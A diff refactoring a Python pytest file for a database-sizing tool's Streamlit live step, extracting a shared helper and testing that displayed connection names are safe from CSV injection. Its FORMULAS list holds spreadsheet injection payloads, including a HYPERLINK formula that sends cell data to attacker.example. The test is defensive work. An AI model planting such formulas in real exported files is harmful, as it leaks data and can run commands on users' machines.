@@ -18,6 +18,7 @@ from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from dataclasses import replace
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import asyncpg
 import pytest
@@ -34,6 +35,9 @@ from wizard.live import (
 from wizard.live.cli import render_usage
 from wizard.model import Replica, Reserves, Scenario, ScenarioError, Service
 from wizard.sizing import recommend
+
+if TYPE_CHECKING:
+    from streamlit.testing.v1 import AppTest
 
 pytestmark = pytest.mark.db
 
@@ -274,15 +278,12 @@ def _live_step_script(host: str, port: int, user: str, database: str, password: 
     ui_live._show(live, report, {}, recommend(share.from_flat(query)), "primary")
 
 
-def test_live_step_shows_connections_by_service(pg: PgServer) -> None:
+def run_live_step(pg: PgServer, query: dict[str, str],
+                  held: list[tuple[str | None, int, bool]]) -> AppTest:
+    """The live step run as a visitor would, while `held` connections are open."""
     from streamlit.testing.v1 import AppTest
-
-    n = names()
-    query = share.to_flat(estate_for(n))
-    rec = recommend(estate_for(n))
-
     async def run() -> AppTest:
-        async with opened(pg, [(n["worker"], 2, False), (f"<b>{n['stray']}</b>", 1, False)]):
+        async with opened(pg, held):
             at = AppTest.from_function(_live_step_script, args=(
                 pg.host, pg.port, pg.user, pg.database, pg.password, query),
                 default_timeout=60)
@@ -296,6 +297,17 @@ def test_live_step_shows_connections_by_service(pg: PgServer) -> None:
         # fleet harness) would then run: put the real one back.
         sys.modules["__main__"] = main
     assert not at.exception, [e.value for e in at.exception]
+    return at
+
+
+def test_live_step_shows_connections_by_service(pg: PgServer) -> None:
+
+    n = names()
+    query = share.to_flat(estate_for(n))
+    rec = recommend(estate_for(n))
+
+    at = run_live_step(pg, query, [(n["worker"], 2, False),
+                                   (f"<b>{n['stray']}</b>", 1, False)])
     table = at.dataframe[0].value
     rows = {r["application_name"]: r for r in table.to_dict("records")}
     worker = next(b for b in rec.endpoint("primary").by_service if b.service == n["worker"])
@@ -336,26 +348,13 @@ FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "@SUM(1+1)*cm
 def test_live_step_table_is_safe_to_download_as_csv(pg: PgServer) -> None:
     """application_name values are the server's text: in the table (whose toolbar has
     "Download as CSV") none starts with a formula prefix (OWASP CSV injection)."""
-    from streamlit.testing.v1 import AppTest
 
     from wizard.export.cells import FORMULA_PREFIXES
 
     n = names()
     query = share.to_flat(estate_for(n))
 
-    async def run() -> AppTest:
-        async with opened(pg, [(f, 1, False) for f in FORMULAS]):
-            at = AppTest.from_function(_live_step_script, args=(
-                pg.host, pg.port, pg.user, pg.database, pg.password, query),
-                default_timeout=60)
-            return await asyncio.get_running_loop().run_in_executor(None, at.run)
-
-    main = sys.modules["__main__"]
-    try:
-        at = asyncio.run(run())
-    finally:
-        sys.modules["__main__"] = main
-    assert not at.exception, [e.value for e in at.exception]
+    at = run_live_step(pg, query, [(f, 1, False) for f in FORMULAS])
     table = at.dataframe[0].value
     cells = [str(v) for v in table.to_numpy().ravel() if isinstance(v, str)]
     cells += [str(c) for c in table.columns]
